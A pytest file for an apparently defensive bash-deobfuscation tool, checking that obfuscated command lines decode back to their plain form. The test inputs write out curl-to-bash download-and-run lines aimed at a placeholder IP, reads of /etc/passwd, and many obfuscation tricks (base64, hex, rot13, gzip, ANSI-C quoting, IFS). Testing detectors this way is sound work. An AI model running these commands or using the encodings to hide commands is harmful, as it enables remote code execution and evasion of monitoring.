"""The bash emulator: each technique on an obfuscated line built by code from a plain command."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellwatch.decode import bash
from shellwatch.decode.engine import decode
from shellwatch.decode.model import Budget, Limits

PLAIN = "curl -s http://203.0.113.10/x.sh"


def _final(text: str) -> str:
    return decode(text, bash.STEPS).text


def _hex_ansi(text: str) -> str:
    return "$'" + "".join(f"\\x{ord(char):02x}" for char in text) + "'"


def _octal_ansi(text: str) -> str:
    return "$'" + "".join(f"\\{ord(char):03o}" for char in text) + "'"


def _unicode_ansi(text: str) -> str:
    return "$'" + "".join(f"\\u{ord(char):04x}" for char in text) + "'"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _squote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def _interleave_quotes(word: str) -> str:
    return "".join(f'"{char}"' if index % 2 else f"'{char}'" for index, char in enumerate(word))


@pytest.mark.parametrize("encode", [_hex_ansi, _octal_ansi, _unicode_ansi])
def test_ansi_c_quoting(encode: object) -> None:
    assert callable(encode)
    assert _final(f"{encode('whoami')} /all") == "whoami /all"


def test_ansi_c_newline_escape() -> None:
    assert _final("printf %s $'a\\nb' | bash") == "a\nb"


def test_quotes_and_backslashes_inside_words() -> None:
    assert _final(_interleave_quotes("whoami")) == "whoami"
    assert _final("\\" + "\\".join("whoami")) == "whoami"


def test_ifs_as_blank() -> None:
    assert _final("cat${IFS}/etc/passwd") == "cat /etc/passwd"
    assert _final("cat$IFS$9/etc/passwd") == "cat /etc/passwd"


def test_variable_assembly() -> None:
    assert _final("a=ec;b=ho;$a$b hi") == "echo hi"
    assert _final("x=who;y=ami;${x}${y}") == "whoami"


@pytest.mark.parametrize(
    ("expansion", "value", "expected"),
    [
        ("${x~~}", "ECHO", "echo"),
        ("${x~}", "Echo", "echo"),
        ("${x,,}", "ECHO", "echo"),
        ("${x,}", "Echo", "echo"),
        ("${x^^}", "echo", "ECHO"),
        ("${x^}", "echo", "Echo"),
        ("${x//Z/}", "eZchZo", "echo"),
        ("${x/Z/}", "ecZho", "echo"),
        ("${x:2:4}", "abechoyz", "echo"),
        ("${x#ab}", "abecho", "echo"),
        ("${x%yz}", "echoyz", "echo"),
        ("${#x}", "abcd", "4"),
    ],
)
def test_parameter_expansions(expansion: str, value: str, expected: str) -> None:
    assert _final(f"x={_squote(value)}; printf %s {expansion} | bash") == expected


def test_indirection_and_positional_no_ops() -> None:
    assert _final("n=w; w=whoami; ${!n}") == "whoami"
    assert _final('"${@}" ${*,,} who${*~~}ami "${@//a/b}" $@ $*') == "whoami"
    assert _final("${!#} <<< 'id'") == "id"


def test_here_string_to_a_shell() -> None:
    assert _final(f"bash <<< {_squote(PLAIN)}") == PLAIN


def test_printf_and_echo_escapes() -> None:
    hexed = "".join(f"\\x{ord(char):02x}" for char in PLAIN)
    assert _final(f'printf "{hexed}" | sh') == PLAIN
    assert _final(f"eval \"$(echo -e '{hexed}')\"") == PLAIN


def test_rev() -> None:
    assert _final(f"rev <<< {_squote(PLAIN[::-1])} | bash") == PLAIN
    assert _final(f'eval "$(rev <<< {_squote(PLAIN[::-1])})"') == PLAIN


def test_base64_and_xxd() -> None:
    assert _final(f"echo {_b64(PLAIN)} | base64 -d | bash") == PLAIN
    assert _final(f"echo {PLAIN.encode().hex()} | xxd -r -p | bash") == PLAIN


def test_tr_rotation() -> None:
    rotated = codecs.encode(PLAIN, "rot13")
    assert _final(f"echo {_squote(rotated)} | tr a-zA-Z n-za-mN-ZA-M | sh") == PLAIN


def test_compressed_payload_made_inside_the_line() -> None:
    gz = base64.b64encode(gzip.compress(PLAIN.encode())).decode()
    bz = base64.b64encode(bz2.compress(PLAIN.encode())).decode()
    assert _final(f"echo {gz} | base64 -d | gzip -dc | bash") == PLAIN
    assert _final(f"echo {bz} | base64 -d | bzip2 -dc | bash") == PLAIN


def test_brace_expansion() -> None:
    assert _final("{cat,/etc/passwd}") == "cat /etc/passwd"


def test_command_substitution_and_backticks() -> None:
    assert _final(f"$(echo {_b64('whoami')} | base64 -d)") == "whoami"
    assert _final(f"`rev <<< {_squote('imaohw')}`") == "whoami"


def test_shell_entries() -> None:
    assert _final(f"eval {_squote(PLAIN)}") == PLAIN
    assert _final(f"sh -c {_squote(PLAIN)}") == PLAIN
    assert _final(f"printf %s {_squote(PLAIN)} | bash") == PLAIN


def test_the_piped_decode_is_one_layer() -> None:
    result = decode(f"echo {_b64(PLAIN)} | base64 -d | bash", bash.STEPS)
    assert [layer.technique for layer in result.layers] == ["bash-piped-decode"]


def test_layers_are_peeled_in_turn() -> None:
    inner = f'eval "$(echo {_b64(PLAIN)} | base64 -d)"'
    assert _final(f"echo {_b64(inner)} | base64 -d | bash") == PLAIN


def test_unknown_commands_stay_as_text() -> None:
    assert _final(f"{_hex_ansi('curl')} http://x | bash") == "curl http://x | bash"
    assert _final('bash -c "$(cat /tmp/x)"') == 'bash -c "$(cat /tmp/x)"'


@pytest.mark.parametrize(
    "line",
    ["ls -la /tmp", 'echo "hello world"', "grep -E 'a|b' f", "find . -name '*.py'", "x=1", "cd /tmp && make"],
)
def test_benign_lines_give_nothing(line: str) -> None:
    assert bash.emulate(line, Budget()) is None
    assert decode(line, bash.STEPS).text == line


_ALPHABET = st.sampled_from(
    [*"ab $'\"\\`{}()[]<>|&;#*?~^,%/=!@-:\n", "$(", "${", "$((", "<<<", "eval", "|bash"]
)


@given(st.lists(_ALPHABET, max_size=40).map("".join))
def test_random_shell_text_never_raises(text: str) -> None:
    limits = Limits(max_seconds=0.2, max_ticks=5_000, max_output=4096)
    result = decode(text, bash.STEPS, limits)
    assert isinstance(result.text, str)
